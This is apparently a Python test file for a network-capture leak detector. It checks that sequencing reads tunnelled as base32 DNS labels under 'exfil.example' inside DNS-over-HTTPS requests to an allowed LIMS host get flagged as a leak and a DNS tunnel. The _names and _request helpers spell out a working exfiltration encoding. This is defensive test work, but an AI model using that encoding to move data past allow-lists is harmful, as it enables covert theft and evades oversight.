"""Reads tunnelled through DNS names sent over HTTPS (RFC 8484) to the allowed LIMS.

40 kB of reads, base32 in the labels of TXT queries for a zone of the instrument's, each query a
DoH request: POSTed as ``application/dns-message``, as the ``dns`` parameter of a GET, or as the
``name`` of a JSON API GET.  Each replayed CLEAN: the HTTP parsers saw a binary body or a URL, never
names whose labels join back into the stream.  Now each is a leak, and a DNS tunnel naming the zone.
"""

from __future__ import annotations

import base64

import dns.message
import pytest

from sandbox.captures.writer import PcapWriter, TcpConversation
from sandbox.replay import replay
from tests.hostile.uploads import ALLOWED

OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/dns-message\r\nContent-Length: 0\r\n\r\n"


def _names(fastq: bytes) -> list[str]:
    encoded = base64.b32encode(fastq).decode().rstrip("=").lower()
    out = []
    for n, at in enumerate(range(0, len(encoded), 189)):
        part = encoded[at: at + 189]
        out.append(".".join([*(part[i: i + 63] for i in range(0, len(part), 63)), f"{n}", "t", "exfil.example"]))
    return out


def _request(how: str, name: str) -> bytes:
    if how == "json":
        return f"GET /resolve?name={name}&type=TXT HTTP/1.1\r\nHost: lims.lab.example\r\n\r\n".encode()
    wire = dns.message.make_query(name, "TXT").to_wire()
    if how == "get":
        return (f"GET /dns-query?dns={base64.urlsafe_b64encode(wire).decode().rstrip('=')} HTTP/1.1\r\n"
                f"Host: lims.lab.example\r\nAccept: application/dns-message\r\n\r\n").encode()
    return (b"POST /dns-query HTTP/1.1\r\nHost: lims.lab.example\r\nContent-Type: application/dns-message\r\n"
            b"Content-Length: %d\r\n\r\n%s" % (len(wire), wire))


@pytest.mark.parametrize("how", ["post", "get", "json"])
def test_reads_in_dns_over_https_queries_are_a_leak_and_a_tunnel(reads, how):
    tmp, run, fastq = reads
    capture = tmp / f"doh-{how}.pcap"
    with PcapWriter(capture) as w:
        c = TcpConversation(w, ("10.0.0.2", 40000), (ALLOWED, 80), t0=1.0)
        for name in _names(fastq):
            c.send(_request(how, name))
            c.send(OK, from_client=False)
        c.close()
    report = replay([capture], [run], allow=[ALLOWED], cache_dir=tmp / "cache", jobs=1).report
    assert report["verdict"] == "leak"
    kinds = {f["kind"]: f for f in report["findings"] if f["severity"] == "high"}
    assert kinds["dns-tunnel"]["destination"] == "exfil.example"
    assert {"run-bytes", "sequence"} & set(kinds)
